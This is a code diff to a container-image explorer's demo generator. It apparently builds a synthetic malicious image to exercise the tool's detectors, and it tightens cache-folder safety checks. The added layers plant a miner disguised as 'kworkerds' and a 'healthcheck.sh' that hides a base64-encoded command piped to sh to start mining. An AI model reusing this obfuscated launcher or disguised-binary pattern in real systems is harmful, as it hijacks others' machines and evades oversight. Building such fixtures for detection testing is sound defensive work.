@@ -6,6 +6,7 @@ from a fixed seed at run time, so this source file holds no token that a scanner
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import os
 import random
@@ -54,9 +55,16 @@ def demo_spec(integrity: bool = False) -> ImageSpec:
         Entry.dir("/root", 0o700), Entry.dir("/tmp", 0o1777), Entry.dir("/srv"),
         Entry.dir("/usr"), Entry.dir("/usr/bin"),
     ], created_by="/bin/sh -c #(nop) ADD file:4f1c0b3e9d7a in / ", compression="gzip")
+    curl = _elf(b"curl 8.5.0 libcurl")
     tools = Layer([
-        Entry.dir("/usr/bin"), Entry.file("/usr/bin/curl", _elf(b"curl 8.5.0 libcurl"), 0o755),
+        Entry.dir("/usr/bin"), Entry.file("/usr/bin/curl", curl, 0o755),
         Entry.dir("/var"), Entry.dir("/var/lib"), Entry.dir("/var/lib/apt"), Entry.dir("/var/lib/apt/lists"),
+        Entry.dir("/var/lib/dpkg"), Entry.dir("/var/lib/dpkg/info"),
+        Entry.file("/var/lib/dpkg/status", b"Package: curl\nStatus: install ok installed\nPriority: optional\n"
+                                           b"Architecture: amd64\nVersion: 7.88.1-10+deb12u5\n"
+                                           b"Description: command line tool for transferring data with URL syntax\n\n"),
+        Entry.file("/var/lib/dpkg/info/curl.list", b"/.\n/usr\n/usr/bin\n/usr/bin/curl\n"),
+        Entry.file("/var/lib/dpkg/info/curl.md5sums", hashlib.md5(curl).hexdigest().encode() + b"  usr/bin/curl\n"),
         Entry.file("/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease", b"Origin: Debian\n" * 200),
     ], created_by="/bin/sh -c apt-get update && apt-get install -y curl", compression="zstd",
         wrong_diff_id=integrity)
@@ -97,6 +105,11 @@ def demo_spec(integrity: bool = False) -> ImageSpec:
         Entry.file("/etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n"
                                   b"sysupdate:x:0:0:system update:/var/tmp:/bin/sh\n"),
         Entry.dir("/usr/bin"), Entry.file("/usr/bin/curl", _elf(b"curl 8.5.0 libcurl patched"), 0o755),
+        Entry.file("/usr/bin/kworkerds", miner, 0o755),
+        Entry.dir("/usr/local"), Entry.dir("/usr/local/bin"),
+        Entry.file("/usr/local/bin/healthcheck.sh", b"#!/bin/sh\n# keep the service healthy\necho " + base64.b64encode(
+            f"nohup /usr/bin/kworkerds -o {pool} -u {wallet} -p x --donate-level 1 >/dev/null 2>&1 &\n".encode())
+            + b" | base64 -d | sh\n", 0o755),
     ], created_by="/bin/sh -c #(nop) COPY dir:9a1f3 in / ", compression="none")
     return ImageSpec(
         layers=[base, tools, app, dropper, cleanup, access],
@@ -111,24 +124,28 @@ def demo_spec(integrity: bool = False) -> ImageSpec:
     )
 
 
-def cached_demo() -> str:
-    """The demo image in the user cache ($XDG_CACHE_HOME/explorer), written there on first use.
+def cached_demo() -> str | None:
+    """The demo image in the cache folder (`explorer.cache.cache_folder`), written there on first use.
 
-    Its name carries a hash of the code that makes it, so a changed demo is written anew. Falls back
-    to a temporary folder when the cache cannot be written.
+    Its name carries a hash of the code that makes it, so a changed demo is written anew. None when
+    the cache folder cannot be written or is not safe to use (a symlink, someone else's, writable by
+    others: `explorer.cache.usable_folder`), or the file there is not a regular file of this user:
+    the caller then writes it to a temporary folder of its own (`write_demo`).
     """
+    from explorer.cache import cache_folder, check_file, usable_folder
+
     import explorer.detectors.heuristics.monero as monero
     import explorer.imagewriter as imagewriter
 
     digest = hashlib.sha256()
     for module in (__file__, imagewriter.__file__, monero.__file__):
         digest.update(Path(module).read_bytes())
-    folder = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache") / "explorer"
+    folder = cache_folder()
     path = folder / f"explorer-demo-{digest.hexdigest()[:16]}.tar"
-    if path.is_file():
-        return str(path)
     try:
-        folder.mkdir(parents=True, exist_ok=True)
+        usable_folder(folder)
+        if check_file(path):
+            return str(path)
         fd, partial = tempfile.mkstemp(prefix=".explorer-demo-", suffix=".tar", dir=folder)
         os.close(fd)
         try:
@@ -138,7 +155,7 @@ def cached_demo() -> str:
             if os.path.exists(partial):
                 os.unlink(partial)
     except OSError:
-        return write_demo(integrity=True)
+        return None
     return str(path)
 
 
